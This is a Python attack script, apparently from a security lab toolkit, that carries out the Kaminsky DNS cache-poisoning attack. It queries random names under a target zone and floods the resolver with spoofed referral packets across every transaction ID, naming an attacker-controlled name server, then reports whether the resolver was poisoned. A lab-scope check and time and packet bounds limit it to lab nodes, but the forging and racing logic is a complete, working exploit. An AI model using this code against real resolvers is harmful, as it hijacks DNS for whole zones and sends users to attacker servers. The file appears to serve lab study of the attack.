"""The Kaminsky attack: poison a resolver's cache by winning the race against a zone's server.

``python3 attacks/kaminsky.py --resolver RESOLVER --server SERVER --port PORT --zone ZONE --ns NS
[--glue ADDRESS] [--seconds S] [--packets P]`` repeats rounds until one wins or a bound is
reached: ask the resolver a fresh random name below ZONE (so nothing is cached for it), then
send, as if from SERVER (the server of ZONE's parent the resolver asks) to the resolver's query
port PORT, a forged referral under every transaction ID: "ZONE is served by NS" (at ADDRESS, for
a name server inside ZONE). A resolver that takes one caches the referral, asks NS (a server the
attacker runs) and answers the random name with whatever it says: every later question below
ZONE goes there too. (An NS outside ZONE, in the attacker's own domain, needs no glue, and
nothing the attacker's server answers later can move it.)

Prints JSON: ``poisoned``, ``rounds``, ``sent``, ``seconds``, the winning ``trigger`` and its
``answer``, and a ``timeline`` of rounds (seconds, packets sent so far, the resolver's answer) to
plot. Every address must be a node of this lab (:mod:`scope`); bounded like every tool.
"""
from __future__ import annotations

import argparse
import json
import random
import select
import socket
import string
import sys
import time

import dns.exception
import dns.message
import dns.rcode

import scope
import spoof

HEAD = 2048  # forged answers sent before the question
ROUND_WAIT = 1.5  # how long a round races the server for the resolver's answer
PRIME_WAIT = 3.0


def trigger(zone: str) -> str:
    return "".join(random.choices(string.ascii_lowercase + string.digits, k=10)) + "." + zone.rstrip(".") + "."


def answer_of(wire: bytes) -> tuple[str, list[str]]:
    """The resolver's rcode and the addresses it answered with."""
    try:
        reply = dns.message.from_wire(wire)
    except dns.exception.DNSException:
        return "MALFORMED", []
    return dns.rcode.to_text(reply.rcode()), [r.address for rrset in reply.answer for r in rrset if hasattr(r, "address")]


def main(argv: list[str]) -> int:
    ap = argparse.ArgumentParser(prog="kaminsky.py", description=__doc__.split("\n\n")[0])
    ap.add_argument("--resolver", required=True, help="the resolver to poison (a node of this lab)")
    ap.add_argument("--server", required=True, help="the server the resolver asks for names below --zone")
    ap.add_argument("--port", type=int, required=True, help="the resolver's query source port")
    ap.add_argument("--zone", required=True, help="the zone to take over, e.g. www.bank.test")
    ap.add_argument("--ns", required=True, help="the name server name of the forged referral")
    ap.add_argument("--glue", help="its address, for a name server inside --zone (a node of this lab)")
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--packets", type=int, default=2_000_000)
    args = ap.parse_args(argv[1:])
    try:
        seconds, limit = scope.bounded("seconds", args.seconds), int(scope.bounded("packets", args.packets))
        if not 0 < args.port < 65536:
            raise ValueError(f"port: 1 to 65535, not {args.port}")
    except ValueError as exc:
        sys.exit(f"refused: {exc}")
    resolver, server = scope.target(args.resolver), scope.target(args.server)
    glue = scope.target(args.glue) if args.glue else ""
    if ":" in resolver + server + glue:
        sys.exit("refused: the spoofer forges IPv4 packets; give IPv4 addresses")
    raw = spoof.raw_socket(resolver)
    ask = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ask.connect((resolver, 53))
    out = {"poisoned": False, "rounds": 0, "sent": 0, "seconds": 0.0, "trigger": None, "answer": [], "timeline": []}
    # first a name below the zone, unraced: the resolver learns the way to the server (and its
    # minimised questions on the way are answered), so that every round's question goes there
    ask.send(dns.message.make_query(trigger(args.zone), "A").to_wire())
    if select.select([ask], [], [], PRIME_WAIT)[0]:
        ask.recv(4096)
    t0 = time.monotonic()
    deadline = t0 + seconds
    while out["sent"] < limit and time.monotonic() < deadline:
        name = trigger(args.zone)
        wires = spoof.packets(server, resolver, args.port, spoof.response(name, None, (args.zone, args.ns, glue or None)))
        out["rounds"] += 1
        # forged answers first, so that the resolver's socket is full when the real answer comes,
        # then the question, then every ID in turn until the resolver answers
        n = spoof.blast(raw, wires, 0, min(HEAD, limit - out["sent"]))
        out["sent"] += n
        ask.send(dns.message.make_query(name, "A").to_wire())
        reply, sent, ends = None, n, min(deadline, time.monotonic() + ROUND_WAIT)
        while out["sent"] < limit and time.monotonic() < ends:
            n = spoof.blast(raw, wires, sent, min(spoof.BATCH, limit - out["sent"]))
            sent, out["sent"] = sent + n, out["sent"] + n
            if select.select([ask], [], [], 0)[0]:
                reply = ask.recv(4096)
                break
        rcode, addresses = answer_of(reply) if reply else ("TIMEOUT", [])
        out["timeline"].append([round(time.monotonic() - t0, 3), out["sent"], rcode])
        if addresses:
            out.update(poisoned=True, trigger=name, answer=addresses)
            break
    out["seconds"] = round(time.monotonic() - t0, 3)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
